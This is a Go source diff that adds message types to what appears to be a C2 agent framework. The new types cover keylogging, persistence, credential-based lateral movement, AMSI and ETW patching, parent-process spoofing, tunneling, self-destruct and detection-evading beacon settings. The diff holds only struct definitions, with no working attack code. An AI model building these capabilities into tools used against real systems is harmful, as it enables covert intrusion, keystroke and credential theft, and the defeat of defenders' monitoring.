@@ -21,30 +21,51 @@ import (
 	"crypto/rsa"
 	"encoding/gob"
 	"github.com/satori/go.uuid"
+	"time"
 )
 
 // init registers message types with gob that are an interface for Base.Payload
 func init() {
 	gob.Register(AgentControl{})
 	gob.Register(AgentInfo{})
+	gob.Register(Health{})
+	gob.Register(Crash{})
+	gob.Register(Archive{})
+	gob.Register(Assembly{})
 	gob.Register(CmdPayload{})
 	gob.Register(CmdResults{})
 	gob.Register(FileTransfer{})
+	gob.Register(Firewall{})
+	gob.Register(IdentityFork{})
 	gob.Register(KeyExchange{})
+	gob.Register(Keylog{})
 	gob.Register(Module{})
+	gob.Register(Move{})
 	gob.Register(NativeCmd{})
+	gob.Register(Persist{})
+	gob.Register(PowerShell{})
+	gob.Register(BOF{})
+	gob.Register(Script{})
+	gob.Register(SelfDestruct{})
+	gob.Register(Search{})
+	gob.Register(Shell{})
 	gob.Register(Shellcode{})
+	gob.Register(Tunnel{})
 	gob.Register(SysInfo{})
+	gob.Register(UserSessions{})
+	gob.Register(WasmTask{})
 }
 
 // Base is the base JSON Object for HTTP POST payloads
 type Base struct {
-	Version float32     `json:"version"`
-	ID      uuid.UUID   `json:"id"`
-	Type    string      `json:"type"`
-	Payload interface{} `json:"payload,omitempty"`
-	Padding string      `json:"padding"`
-	Token   string      `json:"token,omitempty"`
+	Version  float32       `json:"version"`
+	ID       uuid.UUID     `json:"id"`
+	Type     string        `json:"type"`
+	Payload  interface{}   `json:"payload,omitempty"`
+	Padding  string        `json:"padding"`
+	Token    string        `json:"token,omitempty"`
+	Sequence uint32        `json:"sequence,omitempty"` // Agent message counter used to detect an agent running on more than one host
+	Delay    time.Duration `json:"delay,omitempty"`    // Time the agent waits before handling the message; used to run barrier jobs at once
 }
 
 // FileTransfer is the JSON payload to transfer files between the server and agent
@@ -53,6 +74,7 @@ type FileTransfer struct {
 	FileBlob     string `json:"blob"`
 	IsDownload   bool   `json:"download"`
 	Job          string `json:"job"`
+	SHA256       string `json:"sha256,omitempty"` // Hex encoded SHA-256 hash the agent verifies before writing the file
 }
 
 // CmdPayload is the JSON payload for commands to execute on an agent
@@ -71,14 +93,17 @@ type SysInfo struct {
 	HostName     string   `json:"hostname,omitempty"`
 	Pid          int      `json:"pid,omitempty"`
 	Ips          []string `json:"ips,omitempty"`
+	Interpreters []string `json:"interpreters,omitempty"` // Scripting language interpreters found on the host
 }
 
 // CmdResults is a JSON payload that contains the results of an executed command from an agent
 type CmdResults struct {
-	Job     string `json:"job"`
-	Stdout  string `json:"stdout"`
-	Stderr  string `json:"stderr"`
-	Padding string `json:"padding"` // Padding to help evade detection
+	Job     string   `json:"job"`
+	Stdout  string   `json:"stdout"`
+	Stderr  string   `json:"stderr"`
+	Padding string   `json:"padding"`           // Padding to help evade detection
+	Created []string `json:"created,omitempty"` // Files and directories the job created, kept in the cleanup manifest
+	Removed []string `json:"removed,omitempty"` // Persistence names and paths a selfdestruct job removed from the host
 }
 
 // AgentControl is a JSON payload to send control messages to the agent (i.e. kill or die)
@@ -91,16 +116,45 @@ type AgentControl struct {
 
 // AgentInfo is a JSON payload containing information about the agent and its configuration
 type AgentInfo struct {
-	Version       string  `json:"version,omitempty"`
-	Build         string  `json:"build,omitempty"`
-	WaitTime      string  `json:"waittime,omitempty"`
-	PaddingMax    int     `json:"paddingmax,omitempty"`
-	MaxRetry      int     `json:"maxretry,omitempty"`
-	FailedCheckin int     `json:"failedcheckin,omitempty"`
-	Skew          int64   `json:"skew,omitempty"`
-	Proto         string  `json:"proto,omitempty"`
-	SysInfo       SysInfo `json:"sysinfo,omitempty"`
-	KillDate      int64   `json:"killdate,omitempty"`
+	Version       string   `json:"version,omitempty"`
+	Build         string   `json:"build,omitempty"`
+	WaitTime      string   `json:"waittime,omitempty"`
+	PaddingMax    int      `json:"paddingmax,omitempty"`
+	MaxRetry      int      `json:"maxretry,omitempty"`
+	FailedCheckin int      `json:"failedcheckin,omitempty"`
+	Skew          int64    `json:"skew,omitempty"`
+	Proto         string   `json:"proto,omitempty"`
+	SysInfo       SysInfo  `json:"sysinfo,omitempty"`
+	KillDate      int64    `json:"killdate,omitempty"`
+	Watermark     string   `json:"watermark,omitempty"`    // Build watermark encrypted with the server's watermark key
+	Callbacks     []string `json:"callbacks,omitempty"`    // The URLs the agent rotates its check ins across
+	Rotate        string   `json:"rotate,omitempty"`       // How long the agent uses a callback URL before moving to the next one
+	Pins          []string `json:"pins,omitempty"`         // The certificate public key pins the agent accepts from its listeners
+	JA3           string   `json:"ja3,omitempty"`          // The cipher suites and curves the agent offers in its TLS Client Hello
+	Jitter        int      `json:"jitter,omitempty"`       // The most percent the agent's sleep is randomly shortened or lengthened
+	WorkingHours  string   `json:"workinghours,omitempty"` // The hours, such as 0900-1700 Mon-Fri, the agent only checks in during
+	UTCOffset     int      `json:"utcoffset,omitempty"`    // Seconds east of UTC of the host's time zone the working hours are in
+}
+
+// Health is a JSON payload containing the resource usage and error counters an agent reports with its status check ins
+type Health struct {
+	CPU           float64 `json:"cpu"`           // Percent of one CPU the agent used since its previous report
+	Memory        uint64  `json:"memory"`        // Bytes of memory the agent's runtime obtained from the operating system
+	Heap          uint64  `json:"heap"`          // Bytes of allocated heap objects
+	Goroutines    int     `json:"goroutines"`    // Number of goroutines, which grows when jobs or connections leak
+	Uptime        string  `json:"uptime"`        // How long the agent's process has been running
+	HandlerErrors int     `json:"handlererrors"` // Messages from the server the agent could not handle
+	SendErrors    int     `json:"senderrors"`    // Job results the agent could not send to the server
+	JobErrors     int     `json:"joberrors"`     // Jobs that returned an error
+	Panics        int     `json:"panics"`        // Panics the agent recovered from
+}
+
+// Crash is a JSON payload containing a panic an agent recovered from and its sanitized stack trace
+type Crash struct {
+	Time    time.Time `json:"time"`
+	Message string    `json:"message"` // The type of message the agent was handling
+	Panic   string    `json:"panic"`
+	Stack   string    `json:"stack"` // The stack trace without directories, argument values, or offsets
 }
 
 // Shellcode is a JSON payload containing shellcode and the method for execution
@@ -131,3 +185,187 @@ type NativeCmd struct {
 type KeyExchange struct {
 	PublicKey rsa.PublicKey `json:"publickey"`
 }
+
+// Script is a JSON payload containing a script to pipe into an interpreter on the agent's host
+type Script struct {
+	Job         string `json:"job"`
+	Interpreter string `json:"interpreter"` // The scripting language to execute (i.e. python, node, or osascript)
+	Script      string `json:"script"`
+}
+
+// WasmTask is a JSON payload containing a WebAssembly task module for the agent to execute
+type WasmTask struct {
+	Job          string        `json:"job"`
+	Module       string        `json:"module"`                 // Base64 encoded WebAssembly binary module
+	Args         []string      `json:"args,omitempty"`         // Arguments the module can read with the host API
+	Capabilities []string      `json:"capabilities,omitempty"` // Host API capabilities granted to the module (file, process, net)
+	Timeout      time.Duration `json:"timeout,omitempty"`      // Maximum execution time; zero means no limit
+}
+
+// Assembly is a JSON payload containing a .NET assembly for the agent to run in memory with the CLR
+type Assembly struct {
+	Job       string   `json:"job"`
+	Assembly  string   `json:"assembly"`            // Base64 encoded .NET executable assembly
+	Args      []string `json:"args,omitempty"`      // Arguments passed to the assembly's Main method
+	AppDomain string   `json:"appdomain,omitempty"` // Runs the assembly in a new AppDomain with this name; empty uses the default AppDomain
+	AMSI      bool     `json:"amsi,omitempty"`      // Patch AmsiScanBuffer before the assembly is loaded
+	ETW       bool     `json:"etw,omitempty"`       // Patch EtwEventWrite before the assembly is loaded
+}
+
+// BOF is a JSON payload containing a Beacon Object File for the agent to load and run with its packed arguments
+type BOF struct {
+	Job    string `json:"job"`
+	Object string `json:"object"`         // Base64 encoded COFF object file
+	Args   string `json:"args,omitempty"` // Base64 encoded arguments packed by the server
+}
+
+// Persist is a JSON payload to add or remove a persistence mechanism on the agent's host
+type Persist struct {
+	Job     string `json:"job"`
+	Action  string `json:"action"`            // add or remove
+	Method  string `json:"method"`            // schtask, runkey, launchd, systemd, or cron
+	Name    string `json:"name"`              // The task, registry value, unit, or label the persistence is installed as
+	Command string `json:"command,omitempty"` // The command to persist; empty uses the agent's own command line
+}
+
+// Firewall is a JSON payload to list, add, or delete rules in the host firewall on the agent's host
+type Firewall struct {
+	Job       string `json:"job"`
+	Action    string `json:"action"`              // list, add, or delete
+	Name      string `json:"name,omitempty"`      // The rule name or comment; empty lists every rule
+	Direction string `json:"direction,omitempty"` // in or out
+	Protocol  string `json:"protocol,omitempty"`  // tcp or udp
+	Port      string `json:"port,omitempty"`      // The local port of an inbound rule or remote port of an outbound rule
+	Remote    string `json:"remote,omitempty"`    // The remote address or network the rule is limited to; empty allows any
+}
+
+// SelfDestruct is a JSON payload that makes the agent remove its persistence and securely delete the files jobs
+// created and its own executable before it exits
+type SelfDestruct struct {
+	Job         string    `json:"job"`
+	Persistence []Persist `json:"persistence,omitempty"` // The persistence the server recorded as installed, to remove
+	Paths       []string  `json:"paths,omitempty"`       // The files and directories in the agent's cleanup manifest
+}
+
+// Move is a JSON payload to copy a payload to, or run a command on, a remote host with a credential so that it starts
+// a new agent
+type Move struct {
+	Job     string `json:"job"`
+	Method  string `json:"method"`            // psexec, wmiexec, winrm, or ssh
+	Host    string `json:"host"`              // The remote host, with an optional port for ssh
+	Domain  string `json:"domain,omitempty"`  // The credential's domain
+	User    string `json:"user"`              // The credential's user name
+	Secret  string `json:"secret"`            // The credential's password
+	Payload string `json:"payload,omitempty"` // Base64 encoded file copied to the remote host and run
+	Path    string `json:"path,omitempty"`    // Where the payload is copied to on the remote host
+	Command string `json:"command,omitempty"` // The command run on the remote host when there is no payload to copy
+}
+
+// PowerShell is a JSON payload containing a PowerShell script for the agent to run in a runspace hosted in its own
+// process or, with the powerpick method, in powershell.exe started under a spoofed parent process
+type PowerShell struct {
+	Job    string `json:"job"`
+	Method string `json:"method"`         // runspace or powerpick
+	Script string `json:"script"`         // The script or command to run
+	AMSI   bool   `json:"amsi,omitempty"` // Patch AmsiScanBuffer before a runspace is created
+	ETW    bool   `json:"etw,omitempty"`  // Patch EtwEventWrite before a runspace is created
+	PPID   uint32 `json:"ppid,omitempty"` // The powerpick parent process; zero uses explorer.exe
+}
+
+// Search is a JSON payload to find files by name or to search file contents on the agent's host
+type Search struct {
+	Job        string `json:"job"`
+	Method     string `json:"method"`            // The search to run, find or grep
+	Path       string `json:"path"`              // The file or directory to search recursively
+	Name       string `json:"name,omitempty"`    // Glob matched against file names (i.e. *.kdbx)
+	MTime      string `json:"mtime,omitempty"`   // Days since modification like find: -N within N days, +N more than N days
+	Pattern    string `json:"pattern,omitempty"` // Regular expression matched against each line of a file (grep)
+	IgnoreCase bool   `json:"ignorecase,omitempty"`
+	Limit      int    `json:"limit"` // The most results to return
+}
+
+// Archive is a JSON payload to create or extract a zip or tar.gz archive on the agent's host
+type Archive struct {
+	Job      string   `json:"job"`
+	Method   string   `json:"method"`             // zip to create the archive or unzip to extract it
+	Archive  string   `json:"archive"`            // The archive file; the format is chosen by its .zip, .tar.gz, or .tgz extension
+	Paths    []string `json:"paths,omitempty"`    // The files and directories to add when creating the archive
+	Dest     string   `json:"dest,omitempty"`     // The directory to extract the archive to
+	Password string   `json:"password,omitempty"` // Encrypts or decrypts zip archive entries with traditional PKWARE encryption
+}
+
+// Tunnel is a JSON payload exchanged by the server and an agent to tunnel SOCKS5 proxy and port forward connections
+// over the C2 channel. The agent sends its packets and the server answers with its own until the server sends the stop
+// command.
+type Tunnel struct {
+	Job     string         `json:"job,omitempty"`
+	Command string         `json:"command,omitempty"` // start to begin exchanging packets, stop to close every connection
+	Packets []TunnelPacket `json:"packets,omitempty"`
+}
+
+// Shell is a JSON payload exchanged by the server and an agent for an interactive command shell. The agent sends the
+// shell's output and the server answers with the lines typed by the operator until the server sends the stop command.
+type Shell struct {
+	Job     string `json:"job,omitempty"`
+	Command string `json:"command,omitempty"` // start to run the shell, stop to kill it
+	Input   string `json:"input,omitempty"`   // Lines written to the shell's standard input
+	Output  string `json:"output,omitempty"`  // The shell's standard output and standard error
+	Closed  bool   `json:"closed,omitempty"`  // The shell process exited
+}
+
+// TunnelPacket is data for one connection tunneled through an agent, or a reverse port forward's listener when ID is 0
+type TunnelPacket struct {
+	ID        uint32 `json:"id"`                  // The connection identifier; agent assigned identifiers have the high bit set
+	Target    string `json:"target,omitempty"`    // The host:port the agent connects to; only set on the first packet
+	Forward   uint32 `json:"forward,omitempty"`   // The reverse port forward a connection the agent accepted belongs to
+	Listen    string `json:"listen,omitempty"`    // The address the agent listens on for a reverse port forward
+	Connected bool   `json:"connected,omitempty"` // The other side connected to the target
+	Data      []byte `json:"data,omitempty"`
+	Close     bool   `json:"close,omitempty"` // The connection or listener was closed
+	Error     string `json:"error,omitempty"` // Why a connection or listener failed or was closed
+}
+
+// IdentityFork is a JSON payload instructing an agent whose identity was detected on more than one host to register
+// again with a new ID
+type IdentityFork struct {
+	ID     uuid.UUID `json:"id"`     // The new agent ID
+	Reason string    `json:"reason"` // Why the server forked the agent
+}
+
+// UserSessions is a JSON payload containing the interactive sessions or logged on users enumerated from a host
+type UserSessions struct {
+	Job      string        `json:"job"`
+	Method   string        `json:"method"` // The enumeration method used (i.e. sessions-enum or loggedon)
+	Host     string        `json:"host"`   // The host that was enumerated; empty for the agent's own host
+	Sessions []UserSession `json:"sessions,omitempty"`
+	Stderr   string        `json:"stderr,omitempty"`
+}
+
+// UserSession is a single interactive session or logged on user
+type UserSession struct {
+	UserName  string `json:"username"`
+	Domain    string `json:"domain,omitempty"`
+	SessionID uint32 `json:"sessionid,omitempty"`
+	Station   string `json:"station,omitempty"` // The window station name (i.e. Console or RDP-Tcp#0)
+	State     string `json:"state,omitempty"`   // The session connection state (i.e. Active or Disconnected)
+	Client    string `json:"client,omitempty"`  // The remote computer name for RDP sessions
+	Server    string `json:"server,omitempty"`  // The logon server that authenticated the user
+}
+
+// Keylog is a JSON payload to start, stop, or dump an agent's keylogger. The agent answers with the keystrokes captured
+// since the last dump.
+type Keylog struct {
+	Job        string       `json:"job"`
+	Command    string       `json:"command"`              // start, stop, or dump
+	Keystrokes []Keystrokes `json:"keystrokes,omitempty"` // The keystrokes captured since the last dump
+	Dropped    int          `json:"dropped,omitempty"`    // Keys dropped from the agent's full buffer since the last dump
+	Running    bool         `json:"running"`              // The keylogger is capturing keystrokes
+	Stderr     string       `json:"stderr,omitempty"`
+}
+
+// Keystrokes are the keys typed into a window, starting at a time, with special keys in brackets (i.e. [BS])
+type Keystrokes struct {
+	Time   time.Time `json:"time"`
+	Window string    `json:"window,omitempty"` // The title of the foreground window the keys were typed into
+	Keys   string    `json:"keys"`
+}